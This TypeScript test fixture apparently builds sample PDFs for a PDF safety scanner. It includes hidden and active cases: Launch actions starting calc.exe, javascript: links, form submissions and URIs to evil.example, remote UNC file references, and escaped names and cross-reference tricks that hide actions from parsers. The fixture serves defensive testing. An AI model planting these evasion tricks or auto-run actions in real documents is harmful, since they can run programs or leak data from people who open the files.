import { catalogue, page, type Part, pages, pdfWithTable, stream } from './pdf-with-table'

type Make = () => Buffer

const launchAt5 = '5 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj'
const harmlessAt5 = '5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj'

const opening = [catalogue('/OpenAction 5 0 R'), pages, page()]
/** The table points viewers to these words, also where no object seems to be. */
const sent = (words: string) => ({ sent: { 5: words } })

/** What a viewer finds that follows the cross-reference table. */
export const hiddenPdfs: Record<string, Make> = {
  'a launch in a stream': () =>
    pdfWithTable([...opening, stream(4, `BT ET\n${launchAt5}`)], sent('5 0 obj')),
  'a launch in a stream that a table stream points into': () =>
    pdfWithTable([...opening, harmlessAt5, stream(4, launchAt5)], {
      ...sent(launchAt5),
      table: 'stream',
    }),
  'a catalogue in a stream': () =>
    pdfWithTable(
      [catalogue(), pages, page(), launchAt5, stream(4, catalogue('/OpenAction 5 0 R'))],
      {
        sent: { 1: '1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction' },
      },
    ),
  'a table that is broken, so that viewers look into streams too': () => {
    const file = pdfWithTable([...opening, stream(4, `\nendobj\n${launchAt5}`)])
    return Buffer.from(file.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1')
  },
  'an earlier object of the same number': () =>
    pdfWithTable([...opening, launchAt5, harmlessAt5], sent(launchAt5)),
}

const draws = (drawing: Part) =>
  pdfWithTable([catalogue(), pages, page('/Resources<</XObject<</X 6 0 R>>>>'), drawing])
const opens = (action: string, ...more: Part[]) =>
  pdfWithTable([catalogue(`/OpenAction ${action}`), pages, page(), ...more])
const annotated = (annotation: string, ...more: Part[]) =>
  pdfWithTable([
    catalogue(),
    pages,
    page('/Annots[5 0 R]'),
    `5 0 obj\n<</Type/Annot/Rect[0 0 99 99]${annotation}>>\nendobj`,
    ...more,
  ])
const clicks = (action: string, ...more: Part[]) => annotated(`/Subtype/Link/A${action}`, ...more)
const bookmarked = (action: string) =>
  pdfWithTable([
    catalogue('/Outlines 6 0 R'),
    pages,
    page(),
    '6 0 obj\n<</First 7 0 R/Last 7 0 R/Count 1>>\nendobj',
    `7 0 obj\n<</Title(One)/Parent 6 0 R/A${action}>>\nendobj`,
  ])

/** What acts without a press, runs code, starts a program, or has or opens other files. */
export const activePdfs: Record<string, Make> = {
  'a click that opens a file on another host': () =>
    clicks('<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>'),
  'a click that opens an embedded file': () => clicks('<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>'),
  'a click that starts a program': () => clicks('<</S/Launch/F(calc.exe)>>'),
  'a click on a script address': () => clicks('<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'a click on a script address with spaces': () =>
    clicks('<</S/URI/URI( java\\nscript:void\\(0\\);app.alert\\(1\\))>>'),
  'a web address opened with the document': () => opens('<</S/URI/URI(https://evil.example)>>'),
  'a web address opened with the page': () =>
    pdfWithTable([catalogue(), pages, page('/AA<</O<</S/URI/URI(https://evil.example)>>>>')]),
  'a web address behind the pointer': () =>
    annotated('/Subtype/Link/AA<</E<</S/URI/URI(https://evil.example)>>>>'),
  'a web address behind a move to a page': () =>
    opens('<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
  'a web address behind a list of moves': () =>
    opens(
      '<</S/GoTo/D[3 0 R/Fit]/Next[[6 0 R]]>>',
      '6 0 obj\n<</S/URI/URI(https://evil.example)>>\nendobj',
    ),
  'a form that sends itself': () =>
    annotated('/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>'),
  'a form that reads a file': () =>
    annotated('/Subtype/Widget/FT/Btn/A<</S/ImportData/F(C:/data.fdf)>>'),
  'a field with a script for each key': () =>
    annotated('/Subtype/Widget/FT/Tx/AA<</K<</S/JavaScript/JS(1)>>>>'),
  'an XFA form': () =>
    pdfWithTable([
      catalogue('/AcroForm<</Fields[]/XFA 6 0 R>>'),
      pages,
      page(),
      stream(6, '<xdp/>'),
    ]),
  'a print dialogue by itself': () => opens('<</S/Named/N/Print>>'),
  'a script by itself': () => opens('<</S/JavaScript/JS(1)>>'),
  'a script whose kind is a reference': () =>
    opens('<</S 6 0 R/JS 7 0 R>>', '6 0 obj\n/JavaScript\nendobj', '7 0 obj\n(1)\nendobj'),
  'an action whose kind is a reference': () =>
    opens('<</S 6 0 R>>', '6 0 obj\n/SetOCGState\nendobj'),
  'an action that is a stream': () => opens('6 0 R', stream(6, '', '/S/Hide/T(a)')),
  'an action of no known kind': () => opens('<</S/Surprise>>'),
  'a kind of action written in escapes': () => clicks('<</S/#4caunch/F(calc.exe)>>'),
  'a key written in escapes': () =>
    pdfWithTable([catalogue('/#4fpenAction<</S/Hide/T(a)>>'), pages, page()]),
  'a script among the names': () =>
    pdfWithTable([
      catalogue('/Names<</JavaScript<</Names[(a)6 0 R]>>>>'),
      pages,
      page(),
      '6 0 obj\n<</S/JavaScript/JS(1)>>\nendobj',
    ]),
  'a file among the names': () =>
    pdfWithTable([catalogue('/Names<</EmbeddedFiles<</Names[]>>>>'), pages, page()]),
  'a bookmark that starts a program': () => bookmarked('<</S/Launch/F(calc.exe)>>'),
  'a bookmark that opens another file': () => bookmarked('<</S/GoToR/F(b.pdf)/D[0/Fit]>>'),
  'an attached file': () =>
    annotated('/Subtype/FileAttachment/FS<</F(a)/EF<</F 6 0 R>>>>', stream(6, 'attached')),
  'a film': () => annotated('/Subtype/Movie/Movie<</F(a.avi)>>/A true'),
  'a sound': () => annotated('/Subtype/Sound/Sound 6 0 R', stream(6, 'a', '/R 8000')),
  'a screen for films': () => annotated('/Subtype/Screen/A<</S/Rendition/OP 0>>'),
  'rich media': () => annotated('/Subtype/RichMedia/RichMediaContent<<>>'),
  'a three-dimensional model': () => annotated('/Subtype/3D/3DD 6 0 R', stream(6, 'U3D')),
  'a presentation step that acts': () =>
    pdfWithTable([catalogue(), pages, page('/PresSteps<</NA<</S/Thread/F(b.pdf)>>>>')]),
  'a picture in another file': () => draws(stream(6, '', '/F(\\\\\\\\evil.example\\\\a)')),
  'a page of another file shown in place': () =>
    draws(stream(6, '', '/Subtype/Form/Ref<</F(b.pdf)/Page 0>>')),
  'an action behind two references': () =>
    opens('5 0 R', '5 0 obj\n6 0 R\nendobj', '6 0 obj\n<</S/Hide/T(a)>>\nendobj'),
  'a page action behind two references': () =>
    pdfWithTable([
      catalogue(),
      pages,
      page('/AA<</O 5 0 R>>'),
      '5 0 obj\n6 0 R\nendobj',
      '6 0 obj\n<</S/URI/URI(https://evil.example)>>\nendobj',
    ]),
  'page actions in a list': () =>
    pdfWithTable([catalogue(), pages, page('/AA<</O[<</S/Hide/T(a)>>]>>')]),
  'a jump that names another file': () =>
    opens('<</S/GoTo/F(\\\\\\\\evil.example\\\\a)/D[0/Fit]>>'),
  'a slide show': () =>
    pdfWithTable([catalogue('/Names<</AlternatePresentations<</Names[]>>>>'), pages, page()]),
  'a portfolio': () =>
    pdfWithTable([catalogue('/Collection<</View/D/Navigator 6 0 R>>'), pages, page()]),
}
